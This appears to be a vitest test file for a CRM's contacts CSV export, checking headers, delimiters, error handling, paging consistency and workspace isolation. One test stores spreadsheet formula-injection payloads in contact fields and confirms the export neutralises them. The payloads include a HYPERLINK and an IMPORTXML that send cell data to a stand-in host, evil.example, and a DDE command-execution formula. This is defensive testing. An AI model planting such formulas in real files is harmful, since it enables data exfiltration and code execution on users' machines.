import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp, type TestWorkspace } from '../../test/harness.ts';
import type { Actor } from '../lib/actor.ts';
import { scopeServicesToActor } from '../lib/actor-scope.ts';
import { startsWithTrigger, unescapeCell } from './csv-cell.ts';
import type { Delimiter } from './csv-writer.ts';
import { makeExportsService } from './exports.service.ts';

/** Small pages, so every export below crosses many of them. */
const PAGE = 7;

let t: TestApp;
let ws: TestWorkspace;
let other: TestWorkspace;
let n = 0;

const create = async (w: TestWorkspace, body: object = {}) => {
  const res = await w.req('POST', '/v1/contacts', { email: `x${++n}@example.com`, ...body });
  expect(res.status, res.text).toBe(201);
  return res.body as { id: string } & Record<string, unknown>;
};

/** The export parsed back: header and rows, as objects by header. */
function readCsv(text: string, delimiter: Delimiter = ',') {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const records = parse(text, { bom: true, delimiter, record_delimiter: '\r\n' }) as string[][];
  const [header, ...rows] = records;
  for (const r of rows) expect(r.length).toBe(header!.length);
  return { header: header!, rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))) };
}

/** Every id the list API returns for a search body, walking all its pages. */
async function searchIds(w: TestWorkspace, body: object): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | undefined;
  do {
    const res = await w.req('POST', '/v1/contacts/search', { ...body, limit: 5, ...(cursor ? { cursor } : {}) });
    expect(res.status, res.text).toBe(200);
    ids.push(...res.body.data.map((c: { id: string }) => c.id));
    cursor = res.body.nextCursor ?? undefined;
  } while (cursor);
  return ids;
}

beforeAll(async () => {
  t = await startTestApp();
  // The same service the app wires, with small pages (the route reads deps.services.exports per request).
  const d = t.deps;
  d.services.exports = scopeServicesToActor({
    exports: makeExportsService({ db: d.db, clock: d.clock, cursors: d.cursors, workspaces: d.services.workspaces, savedViews: d.services.savedViews, attributes: d.services.contactAttributes, playbooks: d.services.playbooks, pageSize: PAGE }),
  }).exports;
  ws = await t.workspace();
  other = await t.workspace();
  await ws.req('PATCH', '/v1/workspace', { locale: 'en-GB' });
  for (const [key, type] of [['note', 'text'], ['score', 'number'], ['since', 'date'], ['tags', 'multi_select']] as const) {
    const res = await ws.req('POST', '/v1/contact-attributes', { key, label: key, type, ...(type === 'multi_select' ? { options: [{ value: 'vip', label: 'VIP' }, { value: 'b2b', label: 'B2B' }] } : {}) });
    expect(res.status, res.text).toBe(201);
  }
});
afterAll(() => t.close());

describe('contacts export: columns and format', () => {
  it('writes canonical headers (API field names), BOM, CRLF, typed numbers, multi-values joined with |', async () => {
    const owner = await ws.req('POST', '/v1/users', { email: 'seller@example.com', role: 'member' });
    const playbook = await ws.req('POST', '/v1/playbooks', { name: 'Sales', stages: [{ name: 'New' }, { name: 'Won' }] });
    const c = await create(ws, {
      firstName: 'Lucía', lastName: 'García López', company: 'Acme', phone: '+34 612 345 678', additionalEmails: ['a1@example.com', 'a2@example.com'],
      ownerId: owner.body.id, externalRef: { id: 'crm-1' }, consents: { marketingEmail: true }, source: 'web', sourceDetail: 'form:1',
      customAttributes: { note: 'hola', score: -12.5, since: '2024-02-29', tags: ['vip', 'b2b'] },
    });
    await ws.req('PUT', `/v1/contacts/${c.id}/stage`, { playbookId: playbook.body.id, stageId: playbook.body.stages[1].id });
    const res = await ws.req('GET', '/v1/contacts/export');
    expect(res.status, res.text).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
    // Outside quoted fields every line ends CRLF.
    expect(/(^|[^\r])\n/.test(res.text.replace(/"(?:[^"]|"")*"/g, ''))).toBe(false);
    const { header, rows } = readCsv(res.text);
    expect(header).toEqual([
      'id', 'firstName', 'lastName', 'company', 'email', 'phone', 'whatsappUserId', 'additionalEmails', 'additionalPhones', 'ownerEmail', 'externalRefId', 'playbook', 'stage',
      'consent.transactionalWhatsapp', 'consent.transactionalEmail', 'consent.marketingWhatsapp', 'consent.marketingEmail',
      'attr.note', 'attr.score', 'attr.since', 'attr.tags', 'source', 'sourceDetail', 'createdAt', 'updatedAt',
    ]);
    const row = rows.find((r) => r.id === c.id)!;
    const api = (await ws.req('GET', `/v1/contacts/${c.id}`)).body;
    expect(row).toMatchObject({
      firstName: 'Lucía', lastName: 'García López', company: 'Acme', phone: `'${api.phone}`, additionalEmails: 'a1@example.com|a2@example.com', additionalPhones: '',
      ownerEmail: 'seller@example.com', externalRefId: 'crm-1', playbook: 'Sales', stage: 'Won', 'consent.marketingEmail': 'true', 'consent.transactionalEmail': String(api.consents.transactionalEmail),
      'attr.note': 'hola', 'attr.score': '-12.5', 'attr.since': '2024-02-29', 'attr.tags': 'vip|b2b', source: 'web', sourceDetail: 'form:1', createdAt: api.createdAt, updatedAt: api.updatedAt,
    });
    expect(api.phone.startsWith('+')).toBe(true);
    expect(unescapeCell(row.phone!)).toBe(api.phone);
  });

  it('chooses the delimiter: ; for a Spanish workspace, , otherwise, or the one asked for', async () => {
    await create(ws, { company: 'Uno; Dos' });
    expect((await ws.req('GET', '/v1/contacts/export?columns=id,company')).text.split('\r\n')[0]).toBe('\uFEFFid,company');
    await ws.req('PATCH', '/v1/workspace', { locale: 'es-ES' });
    const es = await ws.req('GET', '/v1/contacts/export?columns=id,company');
    expect(es.text.split('\r\n')[0]).toBe('\uFEFFid;company');
    expect(es.text).toContain(';"Uno; Dos"\r\n');
    const tab = await ws.req('POST', '/v1/contacts/export', { columns: ['company', 'id'], delimiter: '\t' });
    expect(tab.text.split('\r\n')[0]).toBe('\uFEFFcompany\tid');
    expect(readCsv(tab.text, '\t').rows.some((r) => r.company === 'Uno; Dos')).toBe(true);
    await ws.req('PATCH', '/v1/workspace', { locale: 'en-GB' });
  });

  it('refuses an unknown or repeated column with 422 and its pointer, before sending anything', async () => {
    const body = await ws.req('POST', '/v1/contacts/export', { columns: ['id', 'nope', 'attr.missing', 'id'] });
    expect(body.status).toBe(422);
    expect(body.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(body.body.errors.map((e: { pointer: string; code: string }) => [e.pointer, e.code])).toEqual([['/columns/1', 'unknown_column'], ['/columns/2', 'unknown_column'], ['/columns/3', 'duplicate_column']]);
    const query = await ws.req('GET', '/v1/contacts/export?columns=id,nope');
    expect(query.status).toBe(422);
    expect(query.body.errors[0]).toMatchObject({ pointer: '/query/columns', code: 'unknown_column' });
    const filter = await ws.req('POST', '/v1/contacts/export', { filter: { field: 'nope', op: 'eq', value: 1 } });
    expect(filter.status).toBe(422);
    expect(filter.body.errors[0].pointer).toMatch(/^\/filter/);
    const key = await ws.req('POST', '/v1/contacts/export', {}, { 'idempotency-key': 'k1' });
    expect(key.status).toBe(400);
    expect(key.body.code).toBe('idempotency_key_not_accepted');
  });
});

describe('contacts export: R21 payloads through the API', () => {
  it('stores the known formula payloads in contacts and exports every one neutralised, re-importable to the same text', async () => {
    const corpus = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', '"=1"', ';=1'];
    const made: Record<string, unknown>[] = [];
    for (const p of corpus) made.push(await create(ws, { firstName: p, company: p, externalRef: { id: `ref ${p}`.trim() }, customAttributes: { note: p, score: -2 } }));
    for (const delimiter of [',', ';'] as const) {
      const res = await ws.req('POST', '/v1/contacts/export', { delimiter, columns: ['id', 'firstName', 'company', 'attr.note', 'attr.score'], filter: { field: 'id', op: 'in', value: made.map((m) => m.id) } });
      expect(res.status, res.text).toBe(200);
      const { rows } = readCsv(res.text, delimiter);
      expect(rows.map((r) => r.id).sort()).toEqual(made.map((m) => m.id).sort());
      for (const r of rows) {
        const api = made.find((m) => m.id === r.id)!;
        for (const col of ['firstName', 'company', 'attr.note']) expect(startsWithTrigger(r[col]!), `${col} ${JSON.stringify(r[col])}`).toBe(false);
        expect(unescapeCell(r.firstName!)).toBe(api.firstName);
        expect(unescapeCell(r.company!)).toBe(api.company);
        expect(unescapeCell(r['attr.note']!)).toBe((api.customAttributes as Record<string, string>).note);
        expect(r['attr.score']).toBe('-2'); // a number: typed, never prefixed
      }
    }
  });
});

describe('contacts export: exactly the listed contacts, across pages', () => {
  it('a filter, a saved view and a search export exactly the ids the list API returns for them', async () => {
    for (let i = 0; i < 30; i++) await create(ws, { company: i % 3 === 0 ? `Paging Co ${i}` : `Other ${i}`, firstName: `Pager${i}` });
    const filter = { field: 'company', op: 'contains', value: 'paging co' };
    const listed = await searchIds(ws, { filter });
    expect(listed.length).toBe(10);
    const viaFilter = readCsv((await ws.req('POST', '/v1/contacts/export', { filter, columns: ['id'] })).text).rows.map((r) => r.id);
    expect(viaFilter.length).toBe(listed.length);
    expect([...viaFilter].sort()).toEqual([...listed].sort());

    const view = await ws.req('POST', '/v1/saved-views', { name: 'Paging', filter, sort: '-updatedAt', visibility: 'private' });
    const viaView = readCsv((await ws.req('GET', `/v1/contacts/export?viewId=${view.body.id}&columns=id`)).text).rows.map((r) => r.id);
    expect([...viaView].sort()).toEqual([...listed].sort());

    const all = await searchIds(ws, {});
    expect(all.length).toBeGreaterThan(4 * PAGE);
    const everything = readCsv((await ws.req('GET', '/v1/contacts/export?columns=id')).text).rows.map((r) => r.id);
    expect(everything.length).toBe(all.length);
    expect(new Set(everything).size).toBe(everything.length);
    expect([...everything].sort()).toEqual([...all].sort());

    const searched = await searchIds(ws, { q: 'Pager2' });
    const viaSearch = readCsv((await ws.req('POST', '/v1/contacts/export', { search: 'Pager2', columns: ['id'] })).text).rows.map((r) => r.id);
    expect(searched.length).toBeGreaterThan(0);
    expect([...viaSearch].sort()).toEqual([...searched].sort());

    // Another workspace's view is a 404; its contacts are never in ours.
    const theirs = await create(other, { company: 'Paging Co theirs' });
    const theirView = await other.req('POST', '/v1/saved-views', { name: 'Theirs', visibility: 'shared' });
    expect((await ws.req('GET', `/v1/contacts/export?viewId=${theirView.body.id}`)).status).toBe(404);
    expect((await ws.req('POST', '/v1/contacts/export', { viewId: theirView.body.id })).status).toBe(404);
    expect((await ws.req('GET', '/v1/contacts/export')).text).not.toContain(theirs.id);
  });

  it('never drops or repeats a row while contacts are created, edited and deleted mid-export', async () => {
    const actor: Actor = { workspaceId: ws.id, role: 'owner', userId: null, type: 'cli', principalId: ws.id };
    const before = await searchIds(ws, {});
    const doomed = before.slice(-3); // oldest first in the export: these are deleted late in the walk
    const exp = await t.deps.services.exports.start(actor, { columns: ['id', 'firstName'] });
    const seen: string[] = [];
    let i = 0;
    for await (const row of exp.rows) {
      if (i++ === 0) continue; // header
      seen.push(row[0] as string);
      if (i % PAGE === 3) {
        // Edits move a contact's updatedAt (not its place in creation order), creates land at the end.
        const victim = before[(i * 5) % before.length]!;
        await ws.req('PATCH', `/v1/contacts/${victim}`, { firstName: `Edited ${i}` });
        await create(ws, { firstName: `Mid-export ${i}` });
      }
      if (i === 2 * PAGE) for (const id of doomed.slice(0, 2)) expect((await ws.req('DELETE', `/v1/contacts/${id}`)).status).toBe(204);
    }
    expect(new Set(seen).size).toBe(seen.length);
    const deletedMidway = new Set(doomed.slice(0, 2));
    for (const id of before) if (!deletedMidway.has(id)) expect(seen, id).toContain(id);
  });

  it('includeDeleted adds the trash after the live contacts', async () => {
    const gone = await create(ws, { firstName: 'Trashed one' });
    await ws.req('DELETE', `/v1/contacts/${gone.id}`);
    const live = readCsv((await ws.req('POST', '/v1/contacts/export', { columns: ['id'] })).text).rows.map((r) => r.id);
    const withTrash = readCsv((await ws.req('POST', '/v1/contacts/export', { columns: ['id'], includeDeleted: true })).text).rows.map((r) => r.id);
    expect(live).not.toContain(gone.id);
    expect(withTrash).toContain(gone.id);
    expect(withTrash.slice(0, live.length)).toEqual(live);
    expect(new Set(withTrash).size).toBe(withTrash.length);
  });
});
